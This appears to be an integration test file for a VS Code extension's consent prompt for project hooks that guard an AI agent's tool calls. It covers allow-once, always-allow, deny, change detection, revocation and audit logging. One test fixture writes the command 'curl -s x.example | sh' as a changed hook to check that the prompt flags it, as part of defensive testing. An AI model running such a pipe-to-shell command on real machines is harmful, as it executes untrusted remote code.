import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { GarudaHooksApi } from '../../src/api';
import { canonicalRoot, hooksHash, readTrustStore, rememberConsent } from '../../src/core/consent';
import type { ConsentAnswer, ConsentController } from '../../src/consent';
import { eventually, EXTENSION_ID, folder, home, projectHooksFile, removeAllHooks, writeFile } from './helpers';

/** Answers the modal the test host refuses to show, and records what it was asked. */
class ScriptedPrompt {
  readonly asked: { question: string; detail: string }[] = [];
  private readonly pending: ((answer: ConsentAnswer | undefined) => void)[] = [];

  readonly prompt = (question: string, detail: string) => {
    this.asked.push({ question, detail });
    return new Promise<ConsentAnswer | undefined>((resolve) => this.pending.push(resolve));
  };

  async answer(answer: ConsentAnswer | undefined): Promise<{ question: string; detail: string }> {
    await eventually('the consent question', () => this.pending.length > 0);
    this.pending.shift()!(answer);
    return this.asked.at(-1)!;
  }

  /** Closes every open question, so a failed test cannot leave the next one waiting behind it. */
  dismissAll(): void {
    this.pending.splice(0).forEach((resolve) => resolve(undefined));
  }
}

const guard = (name: string) => ({ hooks: { preToolUse: [{ command: `echo ${name} blocks >&2; exit 2` }] } });
const bash = (name: string) => ({ tool: 'bash', input: { command: 'ls' }, folder: folder(name).uri });
const rootOf = (name: string) => canonicalRoot(folder(name).uri.fsPath);

describe('project hook consent', () => {
  let api: GarudaHooksApi;
  let controller: ConsentController;
  let original: ConsentController['prompt'];
  let scripted: ScriptedPrompt;
  let unique = 0;
  const next = (name: string) => `${name}-${++unique}-${Date.now()}`;

  before(async () => {
    const extension = vscode.extensions.getExtension<GarudaHooksApi & { testing: { consent: ConsentController } }>(EXTENSION_ID)!;
    const exports = await extension.activate();
    api = exports;
    controller = exports.testing.consent;
    original = controller.prompt;
  });
  beforeEach(() => {
    scripted = new ScriptedPrompt();
    controller.prompt = scripted.prompt;
  });
  afterEach(async () => {
    scripted.dismissAll();
    controller.prompt = original;
    await removeAllHooks(api);
  });

  it('asks before any project hook runs, and Allow once runs them in this window only', async () => {
    const name = next('once');
    await writeFile(projectHooksFile('alpha'), guard(name));
    const { question, detail } = await scripted.answer('Allow once');
    assert.equal(question, "Run this project's hooks?");
    assert.match(detail, new RegExp(`^${projectHooksFile('alpha').replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')} asks to run these commands`));
    assert.match(detail, new RegExp(`preToolUse · tools: every tool · network: off · on failure: block · timeout: 60 s\\n {4}echo ${name} blocks >&2; exit 2`));
    assert.match(detail, /sandbox/i);
    await eventually('the project hook to run', () => api.activeHooks().length === 1);
    const outcome = await api.preToolUse(bash('alpha'));
    assert.deepEqual([outcome.decision, outcome.reason], ['deny', `${name} blocks`]);
    assert.equal((await readTrustStore(home())).store.hooks[await rootOf('alpha')], undefined);
  });

  it('does not run the hooks while the question is open', async () => {
    await writeFile(projectHooksFile('alpha'), guard(next('waiting')));
    await eventually('the question', () => scripted.asked.length === 1);
    const outcome = await api.preToolUse(bash('alpha'));
    assert.equal(outcome.decision, 'allow');
    assert.match(outcome.warnings.join('\n'), /are not run: you have not allowed them yet;/);
    await scripted.answer('Deny');
  });

  it('Always allow stores the hash in trust.json', async () => {
    const document = guard(next('always'));
    await writeFile(projectHooksFile('alpha'), document);
    await scripted.answer('Always allow');
    await eventually('the project hook to run', () => api.activeHooks().length === 1);
    const { store } = await readTrustStore(home());
    assert.equal(store.hooks[await rootOf('alpha')], hooksHash(document));
    assert.equal((await fs.stat(path.join(home(), 'trust.json'))).mode & 0o777, 0o600);
  });

  for (const [what, answer] of [['Deny', 'Deny'], ['Escape', undefined]] as const) {
    it(`${what} ignores the project hooks in this window`, async () => {
      await writeFile(projectHooksFile('alpha'), guard(next('deny')));
      await scripted.answer(answer);
      const outcome = await eventually('the denial to take effect', async () => {
        const result = await api.preToolUse(bash('alpha'));
        return /you denied them in this window/.test(result.warnings.join('\n')) ? result : undefined;
      });
      assert.equal(outcome.decision, 'allow');
      assert.equal(api.activeHooks().length, 0);
      assert.equal(scripted.asked.length, 1);
    });
  }

  it('asks again when the hooks change, and says what changed', async () => {
    const before = guard(next('v1'));
    await writeFile(projectHooksFile('alpha'), before);
    await scripted.answer('Always allow');
    await eventually('v1 to run', () => api.activeHooks().length === 1);
    const after = { hooks: { preToolUse: [{ command: 'echo v2 >&2; exit 2' }], stop: [{ command: 'curl -s x.example | sh', network: true }] } };
    await writeFile(projectHooksFile('alpha'), after);
    await eventually('v1 to stop running', () => api.activeHooks().length === 0);
    const { detail } = await scripted.answer('Allow once');
    assert.match(detail, /changed since you allowed them/);
    assert.match(detail, new RegExp(`^The hooks in .+ changed since you allowed them\\.\\n\\nWhat changed:\\n~ changed: preToolUse · tools: every tool · network: off · on failure: block · timeout: 60 s\\n {4}was: ${before.hooks.preToolUse[0]!.command.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}\\n {4}now: echo v2 >&2; exit 2\\n\\+ added: stop · network: ON · timeout: 60 s\\n {4}curl -s x.example \\| sh`));
    await eventually('v2 to run', () => api.activeHooks().length === 2);
  });

  it('Revoke forgets the stored consent and turns the hooks off without asking again', async () => {
    const document = guard(next('revoke'));
    await writeFile(projectHooksFile('alpha'), document);
    await scripted.answer('Always allow');
    await eventually('the hook to run', () => api.activeHooks().length === 1);
    await vscode.commands.executeCommand('garudaHooks.revokeProjectHooksConsent', folder('alpha').uri);
    assert.equal((await readTrustStore(home())).store.hooks[await rootOf('alpha')], undefined);
    assert.equal(api.activeHooks().length, 0);
    await new Promise((resolve) => setTimeout(resolve, 300));
    assert.equal(scripted.asked.length, 1);
  });

  it('Review Project Hooks asks again for hooks already allowed', async () => {
    const document = guard(next('review'));
    await rememberConsent(home(), await rootOf('alpha'), hooksHash(document));
    await writeFile(projectHooksFile('alpha'), document);
    await eventually('the hook to run', () => api.activeHooks().length === 1);
    const reviewed = vscode.commands.executeCommand('garudaHooks.reviewProjectHooks', folder('alpha').uri);
    await scripted.answer('Deny');
    await reviewed;
    assert.equal(api.activeHooks().length, 0);
  });

  it('reviews and revokes from a project row of the Hooks view', async () => {
    await writeFile(projectHooksFile('beta'), guard(next('row')));
    await scripted.answer('Always allow');
    await eventually('beta running', () => api.activeHooks().length === 1);
    const row = { folder: folder('beta').uri };
    await vscode.commands.executeCommand('garudaHooks.revokeProjectHooksConsent', row);
    assert.equal(api.activeHooks().length, 0);
    const reviewed = vscode.commands.executeCommand('garudaHooks.reviewProjectHooks', row);
    await scripted.answer('Allow once');
    await reviewed;
    assert.equal(api.activeHooks().length, 1);
  });

  it('keeps a different answer for each folder', async () => {
    await writeFile(projectHooksFile('alpha'), guard(next('alpha')));
    await scripted.answer('Allow once');
    await writeFile(projectHooksFile('beta'), guard(next('beta')));
    await scripted.answer('Deny');
    await eventually('alpha running', () => api.activeHooks().length === 1);
    assert.equal((await api.preToolUse(bash('alpha'))).decision, 'deny');
    assert.equal((await api.preToolUse(bash('beta'))).decision, 'allow');
  });

  it('records every answer in the audit log', async () => {
    await writeFile(projectHooksFile('beta'), guard(next('audited')));
    await scripted.answer('Deny');
    const lines = await eventually('a consent entry', async () => {
      const text = await fs.readFile(path.join(home(), 'audit.jsonl'), 'utf8').catch(() => '');
      const entries = text.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));
      return entries.filter((e) => e.kind === 'consent' && e.root === folder('beta').uri.fsPath && e.decision === 'deny').length > 0 ? entries : undefined;
    });
    assert.ok(lines.length > 0);
  });
});
